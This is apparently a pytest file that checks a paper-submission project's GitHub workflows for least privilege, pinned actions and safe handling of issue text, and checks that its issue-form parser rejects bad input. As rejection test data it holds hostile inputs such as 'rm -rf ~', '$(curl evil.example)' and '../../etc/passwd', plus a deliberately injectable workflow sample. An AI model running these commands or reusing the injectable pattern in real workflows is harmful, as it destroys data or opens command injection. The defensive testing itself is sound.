"""How papers come in: workflows, issue form and its script, pre-commit hook, contributing guide.

Workflows only run on GitHub, so they are checked here by what can be checked offline:
GitHub's schemas (check-jsonschema), a security linter (zizmor), and the rules this
project keeps: nothing granted by default, no issue text in a shell script, every action
pinned to a commit.
"""

from __future__ import annotations

import importlib
import json
import re
import subprocess
import sys
from importlib.metadata import entry_points
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
import yaml

from conftest import entry, write_entry
from paperfeed.load import load_papers

REPO = Path(__file__).resolve().parent.parent
GITHUB = REPO / ".github"
WORKFLOWS = sorted((GITHUB / "workflows").glob("*.yml"))
ISSUE_FORM = GITHUB / "ISSUE_TEMPLATE" / "submit-paper.yml"
BIN = Path(sys.executable).parent


def check_jsonschema(schema: str, *paths: Path) -> subprocess.CompletedProcess[str]:
    """GitHub's schema for `schema`, from the copy check-jsonschema ships: no network."""
    return subprocess.run(
        [str(BIN / "check-jsonschema"), "--builtin-schema", schema, *map(str, paths)],
        capture_output=True,
        text=True,
        timeout=120,
    )


def zizmor(github_dir: Path) -> tuple[list[dict[str, Any]], str]:
    """zizmor's findings on a .github folder (pedantic persona), and its log."""
    result = subprocess.run(
        [
            str(BIN / "zizmor"),
            "--offline",
            "--persona",
            "pedantic",
            "--format",
            "json",
            "--no-exit-codes",
            str(github_dir),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert result.returncode == 0, result.stderr
    return json.loads(result.stdout), result.stderr


def serious(findings: list[dict[str, Any]]) -> list[str]:
    """Findings of medium or high severity, as 'audit: file' lines for a readable failure."""
    return [
        f"{f['ident']}: {f['locations'][0]['symbolic']['key']}"
        for f in findings
        if f["determinations"]["severity"] in ("Medium", "High")
    ]


def load(path: Path) -> dict[str, Any]:
    return yaml.safe_load(path.read_text(encoding="utf-8"))


def triggers(workflow: dict[str, Any]) -> dict[str, Any]:
    # YAML 1.1 reads the key `on` as true.
    on = workflow.get("on", workflow.get(True))
    return {on: None} if isinstance(on, str) else dict(on)


def steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]


def all_workflows() -> dict[str, dict[str, Any]]:
    return {path.name: load(path) for path in WORKFLOWS}


# --- the tools, offline ---------------------------------------------------------------


def test_the_workflows_are_the_ones_expected() -> None:
    names = [path.name for path in WORKFLOWS]
    assert names == ["check.yml", "deploy.yml", "digest.yml", "release.yml", "submit-paper.yml"]


def test_workflows_match_githubs_schema() -> None:
    result = check_jsonschema("vendor.github-workflows", *WORKFLOWS)
    assert result.returncode == 0, result.stdout + result.stderr


def test_issue_form_matches_githubs_schema() -> None:
    result = check_jsonschema("vendor.github-issue-forms", ISSUE_FORM)
    assert result.returncode == 0, result.stdout + result.stderr


def test_the_schema_check_catches_a_broken_workflow(tmp_path: Path) -> None:
    broken = tmp_path / "broken.yml"
    broken.write_text("on: push\njobs:\n  a:\n    step:\n      - run: echo\n")
    result = check_jsonschema("vendor.github-workflows", broken)
    assert result.returncode == 1
    assert "runs-on" in result.stdout


def test_zizmor_finds_nothing_of_medium_or_high_severity() -> None:
    findings, log = zizmor(GITHUB)
    for path in WORKFLOWS:
        assert f"completed {path}" in log
    assert serious(findings) == []


def test_zizmor_flags_issue_text_pasted_into_a_script(tmp_path: Path) -> None:
    workflows = tmp_path / ".github" / "workflows"
    workflows.mkdir(parents=True)
    (workflows / "bad.yml").write_text(
        "on:\n  issues:\n    types: [opened]\npermissions: {}\njobs:\n  a:\n"
        "    runs-on: ubuntu-latest\n    steps:\n"
        '      - run: echo "${{ github.event.issue.body }}"\n'
    )
    findings, _ = zizmor(tmp_path / ".github")
    assert "template-injection: " in "\n".join(serious(findings))


# --- least privilege and supply chain ---------------------------------------------------


@pytest.mark.parametrize("name", [path.name for path in WORKFLOWS])
def test_nothing_is_granted_by_default(name: str) -> None:
    assert all_workflows()[name]["permissions"] == {}


def test_each_job_gets_only_what_it_uses() -> None:
    granted = {
        (name, job_id): job.get("permissions")
        for name, workflow in all_workflows().items()
        for job_id, job in workflow["jobs"].items()
    }
    assert granted == {
        ("check.yml", "check"): {"contents": "read"},
        ("deploy.yml", "build"): {"contents": "read", "pages": "read"},
        ("deploy.yml", "deploy"): {"pages": "write", "id-token": "write"},
        ("digest.yml", "send"): {"contents": "read"},
        ("release.yml", "build"): {"contents": "read"},
        ("release.yml", "publish"): {"id-token": "write"},
        ("submit-paper.yml", "add"): {
            "contents": "write",
            "pull-requests": "write",
            "issues": "write",
        },
    }


def test_no_workflow_runs_on_pull_request_target() -> None:
    for path in WORKFLOWS:
        assert "pull_request_target" not in triggers(load(path))
        assert "pull_request_target" not in path.read_text()


def test_scripts_get_expressions_only_through_env() -> None:
    # An expression in `run:` is pasted into the script before the shell parses it: issue
    # text there would run as code. Through `env:` it stays a variable's value.
    for name, workflow in all_workflows().items():
        for step in steps(workflow):
            assert "${{" not in step.get("run", ""), f"{name}: {step.get('name')}"


def test_every_action_is_pinned_to_a_commit_with_its_version() -> None:
    for path in WORKFLOWS:
        used = [step["uses"] for step in steps(load(path)) if "uses" in step]
        assert used, path.name
        for action in used:
            assert re.fullmatch(r"[\w.-]+/[\w./-]+@[0-9a-f]{40}", action), action
        # The version, for people and for update tools, is the comment after the SHA.
        lines = [line for line in path.read_text().splitlines() if "uses:" in line]
        for line in lines:
            assert re.search(r"@[0-9a-f]{40} # v\d+\.\d+\.\d+$", line), line
        assert len(lines) == len(used)


def test_checkouts_keep_no_token() -> None:
    checkouts = [
        step
        for workflow in all_workflows().values()
        for step in steps(workflow)
        if step.get("uses", "").startswith("actions/checkout@")
    ]
    assert len(checkouts) == len(WORKFLOWS)
    assert all(step["with"]["persist-credentials"] is False for step in checkouts)


# --- what each workflow does -------------------------------------------------------------


def runs(workflow: dict[str, Any]) -> str:
    return "\n".join(step.get("run", "") for step in steps(workflow))


def uses(workflow: dict[str, Any]) -> list[str]:
    return [step["uses"].split("@")[0] for step in steps(workflow) if "uses" in step]


def test_check_runs_on_pull_requests_the_entry_check_and_a_strict_build() -> None:
    check = all_workflows()["check.yml"]
    assert list(triggers(check)) == ["pull_request"]
    assert "pip install -e ." in runs(check)
    assert "paperfeed check --format github" in runs(check)
    assert "mkdocs build --strict" in runs(check)


def test_deploy_publishes_main_to_pages_one_run_at_a_time() -> None:
    deploy = all_workflows()["deploy.yml"]
    assert triggers(deploy) == {"push": {"branches": ["main"]}, "workflow_dispatch": None}
    assert deploy["concurrency"] == {"group": "pages", "cancel-in-progress": False}
    assert deploy["jobs"]["deploy"]["environment"]["name"] == "github-pages"
    assert uses(deploy) == [
        "actions/checkout",
        "actions/setup-python",
        "actions/configure-pages",
        "actions/upload-pages-artifact",
        "actions/deploy-pages",
    ]
    assert "--strict" in runs(deploy)


def test_every_install_uses_the_pip_cache() -> None:
    # but the release: a cache written by other runs must not reach what is published
    # (zizmor: cache-poisoning; tests/test_release.py)
    for name, workflow in all_workflows().items():
        if name == "release.yml":
            continue
        setups = [s for s in steps(workflow) if s.get("uses", "").startswith("actions/setup-")]
        assert [s["with"]["cache"] for s in setups] == ["pip"], name


def test_submissions_start_only_from_the_forms_label() -> None:
    form, workflow = load(ISSUE_FORM), all_workflows()["submit-paper.yml"]
    assert triggers(workflow) == {"issues": {"types": ["opened"]}}
    (label,) = form["labels"]
    assert workflow["jobs"]["add"]["if"] == f"contains(github.event.issue.labels.*.name, '{label}')"


def test_submission_hands_issue_text_to_the_script_through_env() -> None:
    workflow = all_workflows()["submit-paper.yml"]
    (read,) = [s for s in steps(workflow) if s.get("id") == "form"]
    assert read["env"] == {"ISSUE_BODY": "${{ github.event.issue.body }}"}
    assert "python -m paperfeed.submission parse" in read["run"]
    assert 'paperfeed add "$ARXIV_ID" --by "$SUBMITTER"' in runs(workflow)


# --- the script that reads the issue form ----------------------------------------------


@pytest.fixture(scope="module")
def submission() -> ModuleType:
    return importlib.import_module("paperfeed.submission")


def form_body(arxiv: str, code: str = "_No response_", tags: str = "_No response_") -> str:
    """An issue body as GitHub writes it for the form: a heading per field."""
    return (
        f"### arXiv id or URL\r\n\r\n{arxiv}\r\n\r\n### Code\r\n\r\n{code}\r\n\r\n"
        f"### Tags\r\n\r\n{tags}"
    )


def test_the_script_reads_the_fields_the_form_has(submission: ModuleType) -> None:
    fields = {item["attributes"]["label"]: item for item in load(ISSUE_FORM)["body"][1:]}
    assert list(fields) == [submission.ARXIV_LABEL, submission.CODE_LABEL, submission.TAGS_LABEL]
    assert fields[submission.ARXIV_LABEL]["validations"]["required"] is True


def test_read_form_gives_each_answer_by_label(submission: ModuleType) -> None:
    body = form_body("2401.10210", tags="a, b\r\nc")
    assert submission.read_form(body) == {
        "arXiv id or URL": "2401.10210",
        "Code": "",
        "Tags": "a, b\nc",
    }


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("2401.10210", "2401.10210"),
        ("  2401.10210v3 ", "2401.10210"),
        ("arXiv:1312.5602", "1312.5602"),
        ("https://arxiv.org/abs/2401.10210v2", "2401.10210"),
        ("https://arxiv.org/pdf/2401.10210.pdf", "2401.10210"),
        ("http://export.arxiv.org/abs/hep-th/9901001", "hep-th/9901001"),
        ("math.GT/0309136v1", "math.GT/0309136"),
    ],
)
def test_arxiv_id_accepts_ids_and_links(submission: ModuleType, text: str, wanted: str) -> None:
    assert submission.arxiv_id(text) == wanted


@pytest.mark.parametrize(
    "text",
    [
        "",
        "2401.102",
        "2401.10210; rm -rf ~",
        "$(curl evil.example)",
        "2401.10210\narxiv=1312.5602",
        "2401.10210 1312.5602",
        "https://evil.example/abs/2401.10210",
        "https://arxiv.org/abs/2401.10210?x=1",
        "../../etc/passwd",
        "2401.10210" + "0" * 300,
    ],
)
def test_arxiv_id_refuses_anything_else(submission: ModuleType, text: str) -> None:
    with pytest.raises(submission.SubmissionError):
        submission.arxiv_id(text)


def test_code_url_takes_one_https_link_or_nothing(submission: ModuleType) -> None:
    assert submission.code_url(" https://github.com/a/b ") == "https://github.com/a/b"
    assert submission.code_url("") == ""
    for bad in [
        "http://github.com/a/b",
        "github.com/a/b",
        "javascript:alert(1)",
        "https://github.com/a/b\ncode=x",
        "https://github.com/a b",
    ]:
        with pytest.raises(submission.SubmissionError):
            submission.code_url(bad)


def test_tags_are_normalised_and_checked(submission: ModuleType) -> None:
    assert submission.tags("Diffusion, image  generation,, diffusion") == [
        "diffusion",
        "image-generation",
    ]
    assert submission.tags("") == []
    for bad in ["c++", "a, b;c", ",".join(f"t{i}" for i in range(11))]:
        with pytest.raises(submission.SubmissionError):
            submission.tags(bad)


def test_parse_prints_output_lines(
    submission: ModuleType, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    body = form_body("https://arxiv.org/abs/2401.10210", "https://github.com/a/b", "Vision, llm")
    monkeypatch.setenv("ISSUE_BODY", body)
    assert submission.main(["submission.py", "parse"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "arxiv=2401.10210",
        "code=https://github.com/a/b",
        "tags=vision,llm",
    ]


def test_parse_refuses_without_echoing_the_input(
    submission: ModuleType, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # The message is posted back on the issue: it must not repeat what the submitter wrote.
    monkeypatch.setenv("ISSUE_BODY", form_body("$(id) @maintainer"))
    assert submission.main(["submission.py", "parse"]) == 1
    out = capsys.readouterr()
    assert out.out == ""
    assert out.err.startswith("The arXiv id or URL field is not an arXiv id or link")
    assert "$(id)" not in out.err and "@maintainer" not in out.err


def test_apply_adds_tags_and_code_and_keeps_the_entry_valid(
    submission: ModuleType, tmp_path: Path
) -> None:
    papers = tmp_path / "papers"
    path = write_entry(
        papers,
        entry(
            id="2401.10210",
            arxiv="2401.10210",
            abstract="First paragraph.\n\nSecond paragraph, $x^2$.\n",
            tags=["vision"],
            links={"pdf": "https://arxiv.org/pdf/2401.10210"},
            upvotes=3,
        ),
    )
    submission.apply(path, "https://github.com/a/b", ["llm", "vision"])
    (paper,) = load_papers(papers, tmp_path).values()
    assert paper.id == "2401.10210" and paper.arxiv == "2401.10210"
    assert paper.tags == ["vision", "llm"]
    assert paper.links == {
        "pdf": "https://arxiv.org/pdf/2401.10210",
        "code": "https://github.com/a/b",
    }
    assert paper.upvotes == 3
    assert paper.abstract == "First paragraph.\n\nSecond paragraph, $x^2$."
    assert "abstract: |" in path.read_text()


def test_apply_with_nothing_to_add_leaves_the_file_alone(
    submission: ModuleType, tmp_path: Path
) -> None:
    path = write_entry(tmp_path / "papers", entry())
    before = path.read_bytes()
    submission.apply(path, "", [])
    assert path.read_bytes() == before


# --- the contributing guide ------------------------------------------------------------


def fenced(text: str, lang: str) -> str:
    (block,) = re.findall(rf"```{lang}\n(.*?)```", text, flags=re.DOTALL)
    return block


def test_the_guides_example_entry_is_valid_and_its_mistakes_read_as_shown(tmp_path: Path) -> None:
    guide = (REPO / "docs/contributing.md").read_text(encoding="utf-8")
    path = tmp_path / "papers/2024/11/1706.03762.yaml"
    path.parent.mkdir(parents=True)
    check = [sys.executable, "-m", "paperfeed.cli", "check"]

    path.write_text(fenced(guide, "yaml"), encoding="utf-8")
    result = subprocess.run(check, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr

    broken = fenced(guide, "yaml").replace("\nabstract:", "\nabstact:")
    broken = broken.replace("published: 2017-06-12", "published: 2017-06-31")
    path.write_text(broken, encoding="utf-8")
    result = subprocess.run(check, cwd=tmp_path, capture_output=True, text=True, timeout=60)
    assert result.returncode == 1
    assert "$ paperfeed check\n" + result.stderr == fenced(guide, "text")


# --- the pre-commit hook -------------------------------------------------------------


def test_pre_commit_hook_runs_paperfeed_check_on_changed_entries() -> None:
    (hook,) = load(REPO / ".pre-commit-hooks.yaml")
    assert hook["id"] == "paperfeed-check"
    assert hook["language"] == "python"
    assert hook["entry"] == "paperfeed check"
    assert hook["pass_filenames"] is False
    # pre-commit installs this repository and runs its `paperfeed` console script.
    (script,) = entry_points(group="console_scripts", name="paperfeed")
    assert script.value == "paperfeed.cli:main"
    files = re.compile(hook["files"])
    for path in ["papers/2024/11/1312.5602.yaml", "papers/x.yml"]:
        assert files.search(path), path
    for path in ["docs/x.yaml", "papers/notes.md", "mkdocs.yml", "my-papers/x.yaml"]:
        assert not files.search(path), path
